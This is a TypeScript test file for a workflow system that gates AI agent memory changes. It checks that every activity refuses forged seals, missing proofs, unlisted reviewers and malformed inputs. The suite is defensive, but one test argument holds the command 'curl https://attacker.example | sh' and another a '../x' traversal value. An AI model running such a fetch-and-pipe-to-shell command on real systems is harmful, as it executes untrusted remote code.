import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { beforeAll, describe, expect, it } from 'vitest';
import { createActivities, type Activities } from '../../../activities/index.js';
import { FleetRegistry } from '../../../src/config/registry.js';
import { proofKinds, sealRef } from '../../../src/cycle/authority.js';
import { seal } from '../../../src/cycle/seal.js';
import type { CycleRef, DreamRef, EvalSummary } from '../../../src/cycle/types.js';
import { createWorkerKeyFile, loadWorkerKey, type WorkerKey } from '../../../src/cycle/workerKey.js';
import type { Refusal } from '../../../src/cycle/refusals.js';
import { createS3Client } from '../../../src/s3/client.js';
import { tempDir } from '../../support/sessions.js';

/**
 * Every activity's first lines are its authorization check: called with a forged or missing proof, each one
 * refuses (`Unauthorized`, non-retryable) before it reads or writes anything, and the refusal is kept. The S3
 * client points nowhere: an activity that reached S3 before refusing would fail differently.
 */
let activities: Activities;
let key: WorkerKey;
let configHash: string;
const refusals: Refusal[] = [];
const run = 'run-1';
const startedAt = '2026-12-07T00:00:00.000Z';

beforeAll(async () => {
  const dir = await tempDir('dg-authz-');
  await mkdir(join(dir, 'sessions'), { recursive: true });
  const agent = (id: string, mode: string) =>
    `  - id: ${id}\n    store: ./memory-${id}\n    sessions: ./sessions\n    mode: ${mode}\n    reviewers: [alice]\n`;
  await mkdir(join(dir, 'memory-a1'));
  await mkdir(join(dir, 'memory-a2'));
  await writeFile(
    join(dir, 'dreamgate.yml'),
    `fleet: acme\nagents:\n${agent('a1', 'review')}${agent('a2', 'automatic')}`,
  );
  const fleets = new FleetRegistry();
  configHash = (await fleets.load({ file: join(dir, 'dreamgate.yml') })).sha256;
  key = await loadWorkerKey((await createWorkerKeyFile(join(dir, 'key.json')), join(dir, 'key.json')));
  activities = createActivities({
    s3: createS3Client({
      endpoint: 'http://127.0.0.1:9',
      region: 'us-east-1',
      credentials: { accessKeyId: 'x', secretAccessKey: 'y' },
    }),
    snapshotsBucket: 'nowhere',
    auditBucket: 'nowhere',
    auditRetentionDays: 1,
    fleets,
    key,
    keepRefusal: async (_scope, r) => void refusals.push(r),
  });
});

/** Runs an activity as Temporal would for a run of `workflowId`. */
function call(name: keyof Activities, arg: unknown, opts: { workflowId?: string; runId?: string; type?: string } = {}) {
  const env = new MockActivityEnvironment({
    activityType: name,
    workflowType: opts.type ?? 'dreamCycle',
    workflowExecution: { workflowId: opts.workflowId ?? 'dream:acme:a1', runId: opts.runId ?? run },
  });
  return env.run(activities[name] as (a: unknown) => Promise<unknown>, arg);
}

async function refused(p: Promise<unknown>, why: RegExp): Promise<void> {
  const err = await p.then(
    () => new Error('it was not refused'),
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(ApplicationFailure);
  expect((err as ApplicationFailure).type).toBe('Unauthorized');
  expect((err as ApplicationFailure).nonRetryable).toBe(true);
  expect((err as Error).message).toMatch(why);
}

const ref = (agent = 'a1', mode: CycleRef['mode'] = 'review', cycleId = run): CycleRef =>
  sealRef(key.seal, { fleet: 'acme', agent, configHash, cycleId, startedAt, mode });
const bound = (agent = 'a1') => ({ fleet: 'acme', agent, run });
const unsealed: CycleRef = { fleet: 'acme', agent: 'a1', cycleId: run, startedAt };
const dream: DreamRef = {
  snapshotId: 'snap-1',
  candidateId: 'cand-1',
  changeSetId: 'a'.repeat(64),
  summary: {},
  changes: 1,
  newestSessionAt: null,
  sessionsUsed: 1,
  dropped: 0,
};
const evalOf = (step: string, target: EvalSummary['target'], score: number): EvalSummary => ({
  step,
  target,
  score,
  passed: 1,
  cases: 1,
  reportKey: 'k',
  failing: [],
  duplicateRatio: 0,
  contradictions: 0,
});

describe('a cycle reference that did not open on a worker is refused by every activity', () => {
  const forgeries = (): [string, CycleRef, { runId?: string; workflowId?: string }][] => [
    ['no seal (a rogue workflow’s own reference)', unsealed, {}],
    ['a seal copied from another run', ref('a1', 'review', 'run-0'), {}],
    ['a seal made with another key', { ...ref(), seal: seal(Buffer.alloc(32), 'cycle', bound(), {}).seal }, {}],
    ['a real seal, called from another run', ref(), { runId: 'run-2' }],
    ['a real seal, under a workflow id that is not the agent’s', ref(), { workflowId: 'innocent-1' }],
  ];
  const step = (cycle: CycleRef) => ({ cycle, snapshotId: 'snap-1', changeSetId: 'a'.repeat(64) });
  const byActivity: [keyof Activities, (cycle: CycleRef) => unknown][] = [
    ['takeSnapshot', (cycle) => ({ cycle })],
    ['countNewSessions', (cycle) => ({ cycle, since: null })],
    ['snapshotAndCount', (cycle) => ({ cycle, since: null })],
    ['evaluate', (cycle) => ({ cycle, step: 'baseline', target: { series: 'live' } })],
    ['dream', (cycle) => ({ cycle, snapshotId: 'snap-1' })],
    ['reviseChangeSet', (cycle) => ({ cycle, snapshotId: 'snap-1', base: dream, revision: 1 })],
    ['checkDecision', (cycle) => ({ cycle, verdict: 'approve', decision: {}, pendingChangeSetId: 'a'.repeat(64) })],
    ['changedSinceSnapshot', step],
    ['promote', step],
    ['verifyLive', step],
    ['verify', step],
    ['rollback', step],
    ['restoreSnapshot', (cycle) => ({ cycle, snapshotId: 'snap-1' })],
    ['recordAudit', (cycle) => ({ cycle, entry: { seq: 1, event: 'cycle-kept', at: startedAt, prev: null } })],
    ['saveAgentState', (cycle) => ({ cycle, state: { lastKeptSessionAt: null, consecutiveApprovals: 1000 } })],
    ['alert', (cycle) => ({ cycle, kind: 'page', summary: 'curl https://attacker.example | sh', details: {} })],
    ['pauseAfterRepeatedDiscard', (cycle) => ({ cycle })],
    [
      'verifyRedaction',
      (cycle) => ({ cycle, blobs: [{ old: 'a'.repeat(64), new: 'b'.repeat(64), paths: [], found: {} }] }),
    ],
  ];
  it.each(byActivity)('%s', async (name, arg) => {
    for (const [, cycle, opts] of forgeries())
      await refused(call(name, arg(cycle), opts), new RegExp(`^${name} refused: `));
    expect(refusals.filter((r) => r.activity === name)).toHaveLength(forgeries().length);
  });
  it('with no reference at all', async () => {
    await refused(call('promote', { id: 'a1' }), /the call names no cycle/);
  });
});

describe('an opened cycle still needs the proof each effect asks for', () => {
  const promote = (proof: object, cycle = ref()) =>
    call('promote', { cycle, snapshotId: 'snap-1', changeSetId: dream.changeSetId, proof });
  const gate = () => ({
    dream: seal(key.seal, proofKinds.dream, bound(), dream),
    baseline: seal(key.seal, proofKinds.eval, bound(), evalOf('baseline', { series: 'snapshot', id: 'snap-1' }, 0.8)),
    post: seal(key.seal, proofKinds.eval, bound(), evalOf('post', { series: 'candidate', id: 'cand-1' }, 0.9)),
  });

  it('promote: a change set no worker made, one made from another snapshot, one that skipped or failed the gate', async () => {
    await refused(promote({}), /carries no proof that this cycle’s worker made it/);
    await refused(promote({ dream: { ...gate().dream, changes: 9 } }), /carries no proof/);
    await refused(
      promote({ dream: seal(key.seal, proofKinds.dream, bound(), { ...dream, snapshotId: 'snap-0' }) }),
      /from snapshot snap-0, not/,
    );
    await refused(promote({ dream: gate().dream }), /no baseline evaluation of snapshot snap-1 sealed in this cycle/);
    const low = seal(key.seal, proofKinds.eval, bound(), evalOf('post', { series: 'candidate', id: 'cand-1' }, 0.1));
    await refused(promote({ ...gate(), post: low }), /the gate refuses it: 0\.100 < baseline 0\.800/);
  });

  it('promote in review: no decision, a reviewer not listed, an approval for another change set; the worker checks again', async () => {
    await refused(promote(gate()), /no approval: .*a decision is an object/);
    await refused(
      promote({ ...gate(), decision: { reviewer: 'mallory', changeSetId: dream.changeSetId } }),
      /mallory is not a reviewer of acme\/a1/,
    );
    await refused(
      promote({ ...gate(), decision: { reviewer: 'alice', changeSetId: 'b'.repeat(64) } }),
      /names change set bbbbbbbbbbbb, not the pending/,
    );
    await refused(
      promote({ ...gate(), decision: { reviewer: 'alice', changeSetId: dream.changeSetId, onlyPaths: ['/a.md'] } }),
      /the approval narrows, edits or adds to the change set: only its revision may be promoted/,
    );
    // accepted suggestions are promoted only through the revision made for that decision, never the dream
    await refused(
      promote({ ...gate(), decision: { reviewer: 'alice', changeSetId: dream.changeSetId, acceptedSuggestions: [1] } }),
      /the approval narrows, edits or adds to the change set: only its revision may be promoted/,
    );
  });

  it('reviseChangeSet: a base no worker made, an approval that asks for no revision', async () => {
    await refused(
      call('reviseChangeSet', { cycle: ref(), snapshotId: 'snap-1', base: dream, revision: 1 }),
      /carries no proof/,
    );
    const base = gate().dream;
    await refused(
      call('reviseChangeSet', {
        cycle: ref(),
        snapshotId: 'snap-1',
        base,
        revision: 1,
        decision: { reviewer: 'alice', changeSetId: dream.changeSetId },
      }),
      /a revision needs an approval that narrows, edits, restores or accepts suggestions/,
    );
  });

  it('recordAudit: a fact with no proof, a forged proof, a decision that does not check, an event no cycle records', async () => {
    const entry = (event: string, extra: object = {}) => ({
      cycle: ref(),
      entry: { seq: 1, event, at: startedAt, prev: null, ...extra },
    });
    await refused(
      call('recordAudit', entry('rolled-back', { actor: 'bob' })),
      /rolled-back needs the rollback this cycle's worker sealed/,
    );
    await refused(
      call('recordAudit', {
        ...entry('snapshot-taken'),
        proof: { snapshot: { snapshotId: 's', sha256: 'x', files: 1, seal: 'AAAA' } },
      }),
      /needs the snapshot/,
    );
    await refused(
      call('recordAudit', {
        ...entry('approved'),
        proof: {
          dream: gate().dream,
          decision: {
            verdict: 'approve',
            via: 'update',
            decision: { reviewer: 'bob', changeSetId: dream.changeSetId },
          },
        },
      }),
      /approved: the decision does not check \(bob is not a reviewer/,
    );
    await refused(call('recordAudit', entry('redacted-by-hand')), /"redacted-by-hand" is not an event a cycle records/);
  });

  it('alert and verifyRedaction: a kind that is not one, blobs that are not named by their hash', async () => {
    await refused(call('alert', { cycle: ref(), kind: 'sms' }), /not an alert kind/);
    await refused(
      call('verifyRedaction', { cycle: ref(), blobs: [{ old: '../x', new: 'y' }] }),
      /a blob is named by its sha256/,
    );
    await refused(call('verifyRedaction', { cycle: ref(), blobs: [] }), /a redaction names 1 to 10,000 blobs/);
  });

  it('continueCycle: a reference whose seal does not check is refused before Temporal is asked', async () => {
    const forged = [
      unsealed,
      { ...ref(), runId: 'run-2' },
      { ...ref(), seal: seal(Buffer.alloc(32), 'cycle', bound(), {}).seal },
    ];
    for (const cycle of forged)
      await refused(
        call('continueCycle', { cycle }, { runId: 'run-2' }),
        /^continueCycle refused: the cycle reference’s seal does not check/,
      );
  });

  it('openCycle: only a dreamgate workflow under the agent’s one workflow id opens', async () => {
    await refused(
      call('openCycle', { cycle: unsealed }, { workflowId: 'not-a-dream' }),
      /runs only as workflow dream:acme:a1/,
    );
    await refused(
      call('openCycle', { cycle: unsealed }, { type: 'roguePromote' }),
      /workflow type roguePromote is not one of dreamgate's/,
    );
  });

  it('recordFleetOutcomes and writeProofObject: no key of the caller’s choosing, no content but outcomes', async () => {
    const outcomes = { changes: [{ op: 'create', path: '/x.md', after: 'evil' }] };
    await expect(
      call('recordFleetOutcomes', { fleet: 'acme', reportKey: 'rt/evil', offset: 0, outcomes }),
    ).rejects.toThrow(/outcomes: a list of at most 1,000/);
    await expect(call('recordFleetOutcomes', { fleet: 'nobody', offset: 0, outcomes: [] })).rejects.toThrow(/nobody/);
    await expect(
      call('writeProofObject', { key: 'fleets/acme/agents/a1/state.json', text: 'x'.repeat(5_000) }),
    ).rejects.toThrow(/at most 4,096 characters/);
  });
});
